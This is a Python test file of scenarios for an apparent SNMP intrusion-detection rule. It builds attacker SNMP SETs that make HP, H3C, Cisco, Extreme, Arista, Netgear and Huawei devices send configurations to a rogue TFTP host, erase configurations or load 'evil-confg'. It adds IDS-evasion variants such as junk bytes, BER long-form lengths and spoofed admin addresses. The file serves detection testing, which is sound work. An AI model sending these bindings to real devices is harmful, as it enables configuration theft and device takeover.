"""BW03: the other objects that move, erase or open a configuration, and what must not hide a SET."""

from __future__ import annotations

from ipaddress import IPv4Address

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ADMIN, ATTACKER, DEVICE, HQ, ROGUE
from bootwarden.scenarios.snmp_rows import HP_DOWNLOAD, HP_FOUNDRY, OLD_H3C, SMALL_CISCO
from bootwarden.traffic import snmp
from bootwarden.traffic.wire import Wire

FOUNDRY = "1.3.6.1.4.1.1991.1.1.2.1"
H3C = "1.3.6.1.4.1.25506.2.4.1.2.4.1"
NETGEAR = "1.3.6.1.4.1.4526.17.87.2.1"
EXTREME = "1.3.6.1.4.1.1916.1.10.1.2.1"
ARISTA = "1.3.6.1.4.1.30065.3.7.1.1"
CREATE_AND_GO = 4
WHERE = IPv4Address(ROGUE)


def copied(device: str, server: str | None, file: str | None) -> Notice:
    """The notice of one configuration copy."""
    return Notice("SNMP_Config_Copy", device, server, file)


SENT: dict[str, tuple[int, str, list[snmp.Binding]]] = {
    "10.0.1.41": (
        1542006018,
        "hp9300.cfg",
        [
            (f"{HP_FOUNDRY}.1.5.0", WHERE),
            (f"{HP_FOUNDRY}.1.8.0", "hp9300.cfg"),
            (f"{HP_FOUNDRY}.1.9.0", 22),
        ],
    ),
    "10.0.1.42": (
        1542006036,
        "h3c.cfg",
        snmp.row(H3C, 7, {2: 3, 3: 2, 4: "h3c.cfg", 5: WHERE, 9: CREATE_AND_GO}),
    ),
    "10.0.1.43": (
        1542006037,
        "old.cfg",
        snmp.row(OLD_H3C, 7, {2: 6, 3: 2, 4: "old.cfg", 5: WHERE, 9: CREATE_AND_GO}),
    ),
    "10.0.1.44": (
        1542006059,
        "sb.txt",
        snmp.row(SMALL_CISCO, 1, {3: 1, 7: 2, 8: 3, 9: WHERE, 11: "sb.txt", 17: CREATE_AND_GO}),
    ),
    "10.0.1.45": (1542006082, "exos.cfg", snmp.row(EXTREME, 1, {2: WHERE, 3: "exos.cfg", 4: 4, 6: 1})),
    "10.0.1.46": (
        1542006086,
        "eos.cfg",
        snmp.row(ARISTA, "1.97.1", {3: "running-config:", 4: f"tftp://{ROGUE}/eos.cfg", 11: CREATE_AND_GO}),
    ),
    "10.0.1.47": (
        1542006057,
        "ng.txt",
        snmp.row(NETGEAR, 1, {3: 3, 4: WHERE, 6: "ng.txt", 8: 1, 12: 3, 17: CREATE_AND_GO}),
    ),
}


@scenario(
    "BW03",
    "malicious",
    raises=[("BW03", sid, ATTACKER, device) for device, (sid, _, _) in SENT.items()],
    site=HQ,
    with_site=Expect(tuple(copied(device, ROGUE, file) for device, (_, file, _) in SENT.items())),
)
def bw03_more_vendors_send(wire: Wire) -> None:
    """HP, H3C, Cisco SB, Extreme and Arista devices are told to send their configuration, a Netgear to load one."""
    for device, (_, _, bindings) in SENT.items():
        snmp.Manager(wire, ATTACKER, device, community="hq-rw").set(*bindings)


OPENED: dict[str, tuple[int, snmp.Binding]] = {
    "10.0.1.51": (1542006012, (f"{FOUNDRY}.2.0", 3)),
    "10.0.1.52": (1542006013, (f"{HP_FOUNDRY}.1.2.0", 3)),
    "10.0.1.53": (1542006012, (f"{FOUNDRY}.72.0", 3)),
    "10.0.1.54": (1542006027, (f"{HP_DOWNLOAD}.5.0", 2)),
    "10.0.1.55": (1542006028, (f"{HP_DOWNLOAD}.12.0", 1)),
    "10.0.1.56": (1542006033, ("1.3.6.1.4.1.2011.5.25.19.1.3.3.1.3.1", 3)),
}


@scenario(
    "BW03",
    "malicious",
    raises=[("BW03", sid, ATTACKER, device) for device, (sid, _) in OPENED.items()],
    site=HQ,
    with_site=Expect(tuple(copied(device, None, None) for device in OPENED)),
)
def bw03_more_openings(wire: Wire) -> None:
    """Foundry configurations are erased, HPE switches' TFTP clients switched on, a Huawei router's next one chosen."""
    for device, (_, binding) in OPENED.items():
        snmp.Manager(wire, ATTACKER, device, community="hq-rw").set(binding, answered=False)


MERGE = {2: 1, 3: 1, 4: 4, 5: WHERE, 6: "evil-confg", 14: CREATE_AND_GO}


@scenario(
    "BW03",
    "malicious",
    raises=[
        *(("BW03", 1, ATTACKER, device) for device in (DEVICE, "10.0.1.2", "10.0.1.3")),
        # The agent's answer comes first.
        ("BW03", 1542006730, ATTACKER, "10.0.1.4"),
    ],
    site=HQ,
    with_site=Expect(tuple(copied(d, ROGUE, "evil-confg") for d in (DEVICE, "10.0.1.2", "10.0.1.3", "10.0.1.4"))),
)
def bw03_behind_junk(wire: Wire) -> None:
    """Before the SET comes what makes an engine give up the flow: a byte, a text, half a message, an answer."""
    merge = snmp.row(snmp.CONFIG_COPY, 111, MERGE)
    for device, junk in ((DEVICE, b"\x00"), ("10.0.1.2", b"hello"), ("10.0.1.3", b"\x30\x82\xff\xff\x02\x01\x01")):
        manager = snmp.Manager(wire, ATTACKER, device)
        manager.send(junk)
        manager.set(*merge, answered=False)
    # The capture begins with the agent's answer to what came before.
    manager = snmp.Manager(wire, ATTACKER, "10.0.1.4")
    manager.answer((snmp.SYS_UPTIME, snmp.ticks(50_000)))
    manager.set(*merge, answered=False)


@scenario(
    "BW03",
    "malicious",
    raises=[("BW03", 1, ATTACKER, DEVICE)],
    site=HQ,
    with_site=Expect((copied(DEVICE, ROGUE, "evil-confg"),)),
)
def bw03_sent_again(wire: Wire) -> None:
    """Nobody answers the SET, which is sent again, each second and every five: that is one act."""
    merge = snmp.row(snmp.CONFIG_COPY, 111, MERGE)
    manager = snmp.Manager(wire, ATTACKER, DEVICE)
    manager.set(*merge, answered=False)
    manager.set_again(*merge)
    manager.set_again(*merge, times=5, apart=5)


@scenario(
    "BW03",
    "malicious",
    raises=[("BW03", 1, ADMIN, DEVICE), ("BW03", 1, ADMIN, "10.0.1.2"), ("BW03", 1, ADMIN, "10.0.1.3")],
    raises_with_site=[("BW03", 1542134031, ADMIN, device) for device in (DEVICE, "10.0.1.2", "10.0.1.3")],
    site=HQ,
    with_site=Expect(tuple(copied(device, ROGUE, "evil-confg") for device in (DEVICE, "10.0.1.2", "10.0.1.3"))),
)
def bw03_long_forms(wire: Wire) -> None:
    """All lengths of SETs are written in BER's long form, of two to eight bytes, from an admin's spoofed address."""
    merge = snmp.row(snmp.CONFIG_COPY, 300, MERGE)
    snmp.Manager(wire, ADMIN, DEVICE, community="hq-rw").set_padded(*merge, arcs=())
    snmp.Manager(wire, ADMIN, "10.0.1.2", community="").set_padded(*merge, arcs=(), size=5)
    snmp.Manager(wire, ADMIN, "10.0.1.3", community="hq-rw").set_padded(*merge, arcs=(), size=8)


BEHIND = {"10.0.1.2": b"\x00", "10.0.1.3": b"\x30\x82\xff\xff", "10.0.1.4": bytes(700)}


@scenario(
    "BW03",
    "malicious",
    raises=[("BW03", 1, ATTACKER, device) for device in BEHIND],
    site=HQ,
    with_site=Expect(tuple(copied(device, ROGUE, "evil-confg") for device in BEHIND)),
)
def bw03_before_junk(wire: Wire) -> None:
    """Bytes follow the SET in its datagram: agents take a message for what its length says."""
    for device, junk in BEHIND.items():
        manager = snmp.Manager(wire, ATTACKER, device, trailing=junk)
        manager.set(*snmp.row(snmp.CONFIG_COPY, 111, MERGE), answered=False)


@scenario("BW03", "benign", site=HQ, with_site=Expect(evidence=()))
def bw03_other_values(wire: Wire) -> None:
    """The same objects are given values that move, erase and open nothing."""
    manager = snmp.Manager(wire, "10.0.2.30", DEVICE, community="hq-rw")
    for name, value in (
        (f"{FOUNDRY}.2.0", 1),
        (f"{FOUNDRY}.3.0", 3),
        (f"{FOUNDRY}.9.0", 28),
        (f"{HP_DOWNLOAD}.5.0", 1),
        (f"{HP_DOWNLOAD}.6.0", 2),
        (f"{HP_DOWNLOAD}.12.0", 2),
        ("1.3.6.1.4.1.2011.5.25.19.1.3.3.1.5.1", "maintenance"),
    ):
        manager.set((name, value))
    manager.set(*snmp.row(H3C, 7, {2: 2, 9: CREATE_AND_GO}))
    manager.set(*snmp.row(SMALL_CISCO, 1, {3: 1, 7: 2, 8: 1, 12: 3, 17: CREATE_AND_GO}))
